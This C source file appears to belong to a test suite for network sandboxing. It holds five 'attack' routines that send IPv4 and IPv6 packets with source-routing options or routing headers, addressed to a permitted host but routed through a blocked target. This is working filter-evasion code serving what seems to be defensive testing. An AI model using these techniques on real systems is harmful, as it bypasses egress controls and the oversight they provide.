/* SPDX-License-Identifier: Apache-2.0 */
/* Source routes: a packet that names an innocent address and carries where it is to go. */
#include "attack.h"

#include <errno.h>
#include <netinet/ip.h>
#include <netinet/ip6.h>
#include <stdint.h>
#include <string.h>

#define LSRR 131

/* NOP, then a route by way of the target: what setsockopt() and ancillary data take. */
static size_t options(const struct target *t, uint8_t *to)
{
	const uint8_t head[] = { 1, LSRR, 7, 4 };

	memcpy(to, head, sizeof(head));
	memcpy(to + sizeof(head), &t->to.v4.sin_addr, 4);
	return 8;
}

#define SEGMENTS 40 /* bytes of a routing header of two addresses */

/* Type 4 (segments), by way of the target to an innocent address; type 2 (home): the target alone.
 */
static size_t segments(const struct target *t, uint8_t type, uint8_t next, uint8_t *to)
{
	const uint8_t two[] = { next, 4, 4, 1, 1, 0, 0, 0 }, home[] = { next, 2, 2, 1, 0, 0, 0, 0 };

	memcpy(to, type == 4 ? two : home, 8);
	memcpy(to + 8, type == 4 ? &t->free.v6.sin6_addr : &t->to.v6.sin6_addr, 16);
	if (type != 4)
		return 24;
	memcpy(to + 24, &t->to.v6.sin6_addr, 16);
	return SEGMENTS;
}

static int by_option(const struct target *t, int type)
{
	int fd = make_socket(t->family, type | SOCK_NONBLOCK, 0), r;
	uint8_t route[SEGMENTS];

	if (t->family == AF_INET)
		r = setsockopt(fd, IPPROTO_IP, IP_OPTIONS, route, (socklen_t)options(t, route));
	else
		r = setsockopt(fd, IPPROTO_IPV6, IPV6_RTHDR, route,
			       (socklen_t)segments(t, 4, 0, route));
	if (r < 0)
		return -errno;
	if (type == SOCK_DGRAM)
		return saw(sendto(fd, "data", 4, 0, &t->free.sa, t->n));
	/* No host takes such a packet and answers: that it is sent is all there is to see. */
	return connect(fd, &t->free.sa, t->n) < 0 && errno != EINPROGRESS ? -errno : 0;
}

static int udp_option(const struct target *t)
{
	return by_option(t, SOCK_DGRAM);
}

static int tcp_option(const struct target *t)
{
	return by_option(t, SOCK_STREAM);
}

static int by_ancillary(const struct target *t, uint8_t type6)
{
	_Alignas(struct cmsghdr) char control[CMSG_SPACE(SEGMENTS)] = { 0 };
	struct iovec v = { .iov_base = (char[]){ "data" }, .iov_len = 4 };
	union address to = t->free;
	struct msghdr m = { .msg_name = &to,
			    .msg_namelen = t->n,
			    .msg_iov = &v,
			    .msg_iovlen = 1,
			    .msg_control = control };
	uint8_t route[SEGMENTS];
	size_t n = t->family == AF_INET ? options(t, route) : segments(t, type6, 0, route);
	struct cmsghdr *c;

	m.msg_controllen = CMSG_SPACE(n);
	c = CMSG_FIRSTHDR(&m);
	c->cmsg_level = t->family == AF_INET ? IPPROTO_IP : IPPROTO_IPV6;
	c->cmsg_type = t->family == AF_INET ? IP_RETOPTS : IPV6_RTHDR;
	c->cmsg_len = CMSG_LEN(n);
	memcpy(CMSG_DATA(c), route, n);
	return saw(sendmsg(make_socket(t->family, SOCK_DGRAM, 0), &m, 0));
}

static int udp_ancillary(const struct target *t)
{
	return by_ancillary(t, 4);
}

/* Of mobile IPv6: one address, and nobody needs a right for it. */
static int udp_ancillary_home(const struct target *t)
{
	return by_ancillary(t, 2);
}

/* In a header of the caller's own. */
static int raw_route(const struct target *t)
{
	int fd = make_socket(t->family, SOCK_RAW, IPPROTO_RAW), one = 1;
	union address to = t->free;
	uint8_t packet[96] = { 0 };
	size_t n;

	to.v4.sin_port = 0;
	if (t->family == AF_INET) {
		struct iphdr h = { .version = 4,
				   .ihl = 7,
				   .tot_len = htons(32),
				   .ttl = 64,
				   .protocol = 253,
				   .saddr = t->own.v4.sin_addr.s_addr,
				   .daddr = t->free.v4.sin_addr.s_addr };

		memcpy(packet, &h, sizeof(h));
		n = sizeof(h) + options(t, packet + sizeof(h)) + 4;
	} else {
		struct ip6_hdr h = { .ip6_flow = htonl(6u << 28),
				     .ip6_plen = htons(SEGMENTS + 4),
				     .ip6_nxt = IPPROTO_ROUTING,
				     .ip6_hlim = 64,
				     .ip6_src = t->own.v6.sin6_addr,
				     .ip6_dst = t->free.v6.sin6_addr };

		memcpy(packet, &h, sizeof(h));
		n = sizeof(h) + segments(t, 4, 253, packet + sizeof(h)) + 4;
	}
	if (setsockopt(fd, t->family == AF_INET ? IPPROTO_IP : IPPROTO_IPV6,
		       t->family == AF_INET ? IP_HDRINCL : IPV6_HDRINCL, &one, sizeof(one)) < 0)
		give_up("HDRINCL");
	return saw(sendto(fd, packet, n, 0, &to.sa, t->n));
}

const struct attack attacks_route[] = {
	{ "route-udp-option", udp_option },
	{ "route-tcp-option", tcp_option },
	{ "route-udp-ancillary", udp_ancillary },
	{ "route-udp-ancillary-home", udp_ancillary_home },
	{ "route-raw", raw_route },
	{ NULL, NULL },
};
